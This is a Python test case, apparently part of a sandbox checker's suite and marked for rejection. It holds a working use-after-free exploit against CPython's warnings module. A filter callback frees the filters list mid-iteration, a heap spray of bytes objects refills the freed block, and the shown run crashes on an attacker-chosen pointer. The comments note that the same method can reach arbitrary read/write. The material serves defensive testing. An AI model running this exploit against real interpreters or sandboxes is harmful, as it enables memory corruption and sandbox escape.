# expect: reject store
# why: the twenty-second wall round: C warnings state replaced from the module while a filter's
#   callback runs (a use after free the runtime wall cannot hold off): the checker keeps it out
# line: 33
# ok_02 - memory corruption: SIGSEGV at a pointer the program chose (ok_01's use after free,
#   the freed list's block refilled with bytes)
# Goal: SIGSEGV; more: the stale list's ob_size and ob_item are the program's bytes, so the
#   C loop dereferences a pointer of the program's choosing (here 0x4141414141414141).
# Mechanism: as ok_01 (_warnings.c get_filter walks st->filters borrowed; a filter's
#   match() replaces warnings.filters and warns again, the inner Py_SETREF frees the list).
#   First the list free list is filled (200 empty lists freed) so the old list's 64-byte
#   block goes back to pymalloc; 23-byte bytes objects are then made until one sits in that
#   block (id == id(old list) - 16, the GC head). The stale list pointer is block+16: its
#   ob_size is the bytes' data[0:8] (5), its ob_item data[8:16] (0x4141...). The outer loop
#   reads ob_item[1] = *(0x4141414141414149) -> SIGSEGV. A pointer to crafted bytes instead
#   would hand C a fake tuple / fake objects (arbitrary read/write).
# Proof (sb-run):
#   status: error   exit_code: 139   Process killed by signal 11 (SIGSEGV)
#   stdout: our bytes now fill the old list's block; stale ob_item = 0x4141414141414141
import warnings
IGN = ("ignore", None, Warning, None, 0)
# 23 bytes: a bytes object then fills the 64-byte block of the freed list (16-byte
# GC head + 40). The stale list pointer is block+16: its ob_size is our bytes 0..8,
# its ob_item our bytes 8..16.
FAKE = (5).to_bytes(8, "little") + b"\x41" * 8 + b"\x00" * 7
state = {"n": 0}
got = []
class M:
    def match(self, text):
        state["n"] += 1
        if state["n"] == 1:
            spare = [[] for _ in range(200)]   # fill the list free list (80)
            warnings.filters = [IGN]
            del spare
            warnings.warn("inner")             # frees the old list, block to pymalloc
            for _ in range(5000):
                b = FAKE[:8] + FAKE[8:]
                got.append(b)
                if id(b) == oid - 16:
                    print("our bytes now fill the old list's block; stale ob_item = 0x4141414141414141", flush=True)
                    break
        return False
old = [("always", M(), Warning, None, 0), IGN, IGN]
oid = id(old)
warnings.filters = old
del old
print("outer warn", flush=True)
warnings.warn("outer")
print("not reached")
